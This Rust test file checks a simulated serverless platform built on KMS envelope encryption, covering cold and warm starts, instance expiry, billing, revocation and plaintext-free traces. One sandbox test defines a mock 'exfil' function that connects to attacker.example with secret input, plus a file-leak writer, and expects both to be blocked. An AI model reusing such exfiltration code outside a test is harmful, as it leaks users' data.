use super::*;
use crate::clock::VirtualClock;
use crate::envelope::{generate_app_keypair, generate_data_key, open_result, seal_data, wrap_data_key, AppKeyPair, DataKey};
use crate::kms::{Kms, KmsConfig};

struct Fixture {
    kms: Arc<Kms>,
    platform: Platform,
    app: AppKeyPair,
}

fn fixture(config: PlatformConfig) -> Fixture {
    let kms = Arc::new(Kms::in_memory(KmsConfig::default(), Arc::new(VirtualClock::new(0))).unwrap());
    let app = generate_app_keypair(&AppId::new("cam").unwrap()).unwrap();
    kms.register_app(&app.app_id, &app.material()).unwrap();
    let mut platform = Platform::new(config);
    platform.connect_kms(kms.clone()).unwrap();
    Fixture { kms, platform, app }
}

fn package(f: &Fixture, id: &str, behavior: BehaviorRef, memory: &str) -> FunctionPackage {
    FunctionPackage {
        function_id: FunctionId::new(id),
        app_id: f.app.app_id.clone(),
        app_function: behavior,
        kms_identity: KmsIdentity {
            kms_id: f.kms.kms_id().clone(),
            endpoint: "https://kms.local:8443".into(),
        },
        app_private_key: f.app.private.clone(),
        memory_gb: memory.parse().unwrap(),
    }
}

fn request(f: &Fixture, rid: &str, data: &[u8]) -> (InvocationRequest, DataKey) {
    let k = generate_data_key().unwrap();
    let req = InvocationRequest {
        app_id: f.app.app_id.clone(),
        request_id: rid.into(),
        encrypted_data: seal_data(data, &f.app.public, &k).unwrap(),
        encrypted_key: wrap_data_key(&k, &f.app, &Kms::get_public_key(&f.kms)).unwrap(),
    };
    (req, k)
}

fn deployed(config: PlatformConfig, profile: &str) -> (Fixture, FunctionId) {
    let mut f = fixture(config);
    let pkg = package(&f, "fn-cam", BehaviorRef::Profile(profile.into()), "3.0");
    let id = f.platform.deploy(pkg).unwrap();
    (f, id)
}

#[test]
fn first_invoke_is_cold_then_warm() {
    let (mut f, id) = deployed(PlatformConfig::default(), "DenseNet");
    assert!(f.platform.instances(&id).is_empty());
    let (r1, _) = request(&f, "r1", b"frame");
    let a = f.platform.invoke(&id, &r1, 0).unwrap();
    assert_eq!(a.served_state, ServedState::Cold);
    assert!(a.e2e_ms.abs_diff(9153) <= 20, "{}", a.e2e_ms);
    let (r2, _) = request(&f, "r2", b"frame");
    let b = f.platform.invoke(&id, &r2, a.completed_at + 1000).unwrap();
    assert_eq!(b.served_state, ServedState::Warm);
    assert!(b.e2e_ms.abs_diff(851) <= 20, "{}", b.e2e_ms);
    assert_eq!(a.instance_id, b.instance_id);
}

#[test]
fn memory_ceiling_and_duplicates() {
    let mut f = fixture(PlatformConfig::default());
    let over = package(&f, "a", BehaviorRef::Profile("DenseNet".into()), "4.0");
    assert!(matches!(f.platform.deploy(over), Err(FaasError::MemoryOutOfRange { .. })));
    let under = package(&f, "a", BehaviorRef::Profile("DenseNet".into()), "0.1");
    assert!(matches!(f.platform.deploy(under), Err(FaasError::MemoryOutOfRange { .. })));
    let ok = package(&f, "a", BehaviorRef::Profile("DenseNet".into()), "3.0");
    f.platform.deploy(ok.clone()).unwrap();
    assert!(matches!(f.platform.deploy(ok), Err(FaasError::DuplicateFunction { .. })));
    let unknown = package(&f, "b", BehaviorRef::Profile("ResNet".into()), "1.0");
    assert!(matches!(f.platform.deploy(unknown), Err(FaasError::UnknownBehavior { .. })));
}

#[test]
fn concurrent_invokes_spawn_cold_instances() {
    let (mut f, id) = deployed(PlatformConfig::default(), "MobileNet");
    let (r, _) = request(&f, "warmup", b"x");
    let first = f.platform.invoke(&id, &r, 0).unwrap();
    let t = first.completed_at + 10;
    let states: Vec<_> = (0..3)
        .map(|i| {
            let (r, _) = request(&f, &format!("burst{i}"), b"x");
            f.platform.invoke(&id, &r, t).unwrap().served_state
        })
        .collect();
    assert_eq!(states, [ServedState::Warm, ServedState::Cold, ServedState::Cold]);
    assert_eq!(f.platform.instances(&id).len(), 3);
}

#[test]
fn idle_expiry_threshold() {
    let (mut f, id) = deployed(PlatformConfig::default(), "MobileNet");
    let (r, _) = request(&f, "r0", b"x");
    let done = f.platform.invoke(&id, &r, 0).unwrap().completed_at;
    assert_eq!(f.platform.expire_idle(done + 25 * MINUTE_MS), 0);
    assert_eq!(f.platform.instances(&id)[0].state, InstanceState::Warm);
    assert_eq!(f.platform.expire_idle(done + 27 * MINUTE_MS), 1);
    assert!(f.platform.instances(&id).is_empty());
    let (r, _) = request(&f, "r1", b"x");
    let rec = f.platform.invoke(&id, &r, done + 27 * MINUTE_MS).unwrap();
    assert_eq!(rec.served_state, ServedState::Cold);
}

#[test]
fn busy_instance_never_expires() {
    let mut f = fixture(PlatformConfig::default());
    let mut slow = f.platform.profile("DenseNet").unwrap().clone();
    slow.name = "Slow".into();
    slow.warm_exec_ms = 40 * MINUTE_MS;
    f.platform.add_profile(slow).unwrap();
    let id = f.platform.deploy(package(&f, "slow", BehaviorRef::Profile("Slow".into()), "1.0")).unwrap();
    let (r, _) = request(&f, "r", b"x");
    f.platform.invoke(&id, &r, 0).unwrap();
    assert_eq!(f.platform.expire_idle(35 * MINUTE_MS), 0);
    let inst = &f.platform.instances(&id)[0];
    assert!(inst.busy(35 * MINUTE_MS));
    assert_eq!(inst.state, InstanceState::Warm);
}

fn naive_adler32(data: &[u8]) -> u32 {
    let (mut a, mut b) = (1u64, 0u64);
    for &x in data {
        a = (a + x as u64) % 65521;
        b = (b + a) % 65521;
    }
    ((b << 16) | a) as u32
}

#[test]
fn checksum_native_end_to_end() {
    let mut f = fixture(PlatformConfig::default());
    let id = f.platform.deploy(package(&f, "sum", BehaviorRef::Native("checksum".into()), "0.5")).unwrap();
    let payload: Vec<u8> = (0..100_000u32).map(|i| (i * 7 + 3) as u8).collect();
    let (r, k) = request(&f, "r", &payload);
    let rec = f.platform.invoke(&id, &r, 0).unwrap();
    let InvocationOutcome::Ok { result } = rec.outcome else {
        panic!("{:?}", rec.outcome)
    };
    let out: serde_json::Value = serde_json::from_slice(&open_result(&result, &k).unwrap()).unwrap();
    assert_eq!(out["adler32"], naive_adler32(&payload));
    assert_eq!(out["len"], payload.len());
}

#[test]
fn sandbox_violations_terminate_app() {
    let mut f = fixture(PlatformConfig::default());
    f.platform
        .register_native_function(
            "exfil",
            AppBehavior::new(|sb| {
                let _ = sb.connect("https://attacker.example");
                Ok(sb.stdin().to_vec())
            }),
        )
        .unwrap();
    f.platform
        .register_native_function(
            "writer",
            AppBehavior::new(|sb| {
                sb.write_file("/tmp/leak", b"x")?;
                Ok(vec![])
            }),
        )
        .unwrap();
    f.platform
        .register_native_function(
            "kms-only",
            AppBehavior::new(|sb| {
                sb.connect("https://kms.local:8443")?;
                sb.write_file("/scratch/tmp", sb.stdin().to_vec().as_slice())?;
                Ok(b"fine".to_vec())
            }),
        )
        .unwrap();
    assert!(f.platform.register_native_function("checksum", AppBehavior::new(|_| Ok(vec![]))).is_err());
    for (name, expect_ok) in [("exfil", false), ("writer", false), ("kms-only", true)] {
        let id = f.platform.deploy(package(&f, name, BehaviorRef::Native(name.into()), "1.0")).unwrap();
        let (r, _) = request(&f, name, b"secret");
        let rec = f.platform.invoke(&id, &r, 0).unwrap();
        assert_eq!(rec.outcome.is_ok(), expect_ok, "{name}: {:?}", rec.outcome);
        if !expect_ok {
            assert!(matches!(
                rec.outcome,
                InvocationOutcome::Error {
                    failure: InvocationFailure::Sandbox { .. }
                }
            ));
        }
    }
}

#[test]
fn revoked_app_gets_denial_not_data() {
    let (mut f, id) = deployed(PlatformConfig::default(), "MobileNet");
    f.kms.revoke_app(&f.app.app_id).unwrap();
    let (r, _) = request(&f, "r", b"x");
    let rec = f.platform.invoke(&id, &r, 0).unwrap();
    assert_eq!(
        rec.outcome,
        InvocationOutcome::Error {
            failure: InvocationFailure::KmsDenied {
                decision: Decision::DeniedRevoked
            }
        }
    );
}

#[test]
fn mismatched_app_is_bad_request() {
    let (mut f, id) = deployed(PlatformConfig::default(), "MobileNet");
    let (mut r, _) = request(&f, "r", b"x");
    r.app_id = AppId::new("other").unwrap();
    let rec = f.platform.invoke(&id, &r, 0).unwrap();
    assert!(matches!(
        rec.outcome,
        InvocationOutcome::Error {
            failure: InvocationFailure::BadRequest { .. }
        }
    ));
    assert_eq!(f.kms.audit_len(), 0);
}

#[test]
fn platform_trace_holds_no_plaintext() {
    let config = PlatformConfig {
        capture_trace: true,
        ..Default::default()
    };
    let mut f = fixture(config);
    let id = f.platform.deploy(package(&f, "echo", BehaviorRef::Native("echo".into()), "1.0")).unwrap();
    let marker = b"PLAINTEXT-MARKER-0123456789".repeat(4);
    let (r, k) = request(&f, "r", &marker);
    let rec = f.platform.invoke(&id, &r, 0).unwrap();
    let InvocationOutcome::Ok { result } = &rec.outcome else { panic!() };
    assert_eq!(open_result(result, &k).unwrap(), marker);
    let trace = f.platform.trace();
    assert_eq!(trace.len(), 3);
    for e in trace {
        assert!(!e.bytes.windows(16).any(|w| marker.windows(16).any(|m| m == w)));
        assert!(!e.bytes.windows(32).any(|w| w == k.as_bytes()));
    }
}

#[test]
fn keep_alive_bills_minimum_unit() {
    let (mut f, id) = deployed(PlatformConfig::default(), "Darknet");
    let rec = f.platform.keep_alive(&id, 0).unwrap();
    assert_eq!(rec.kind, InvocationKind::KeepAlive);
    assert_eq!(rec.billed_gbs, "0.3".parse::<Decimal>().unwrap());
    assert_eq!(rec.kms_ms, 0);
    assert_eq!(f.kms.audit_len(), 0);
}

#[test]
fn ledger_matches_records_and_seeded_runs_repeat() {
    let run = |seed| {
        let (mut f, id) = deployed(
            PlatformConfig {
                seed,
                ..Default::default()
            },
            "SSDMobilenet",
        );
        let mut out = Vec::new();
        for i in 0..20u64 {
            let (r, _) = request(&f, &format!("r{i}"), b"x");
            let rec = f.platform.invoke(&id, &r, i * 7 * MINUTE_MS).unwrap();
            out.push((rec.served_state, rec.e2e_ms, rec.instance_id, rec.cost_usd));
        }
        let sum: Decimal = out.iter().map(|o| o.3).sum();
        assert_eq!(sum, f.platform.meter().total());
        out
    };
    assert_eq!(run(5), run(5));
    assert_ne!(run(5), run(6));
}

#[test]
fn instance_cap_limits_pool() {
    let (mut f, id) = deployed(
        PlatformConfig {
            instance_cap: Some(2),
            ..Default::default()
        },
        "MobileNet",
    );
    for i in 0..2 {
        let (r, _) = request(&f, &format!("r{i}"), b"x");
        f.platform.invoke(&id, &r, 0).unwrap();
    }
    let (r, _) = request(&f, "r3", b"x");
    assert!(matches!(
        f.platform.invoke(&id, &r, 0),
        Err(FaasError::CapacityExhausted { .. })
    ));
}

#[test]
fn handle_serializes_access() {
    let (f, id) = deployed(PlatformConfig::default(), "MobileNet");
    let reqs: Vec<_> = (0..8).map(|i| request(&f, &format!("r{i}"), b"x").0).collect();
    let handle = PlatformHandle::spawn(f.platform);
    let threads: Vec<_> = reqs
        .into_iter()
        .map(|r| {
            let (h, id) = (handle.clone(), id.clone());
            std::thread::spawn(move || h.invoke(&id, &r, Some(0)).unwrap())
        })
        .collect();
    let recs: Vec<_> = threads.into_iter().map(|t| t.join().unwrap()).collect();
    assert!(recs.iter().all(|r| r.served_state == ServedState::Cold));
    let total = handle.call(|p| p.meter().len()).unwrap();
    assert_eq!(total, 8);
}
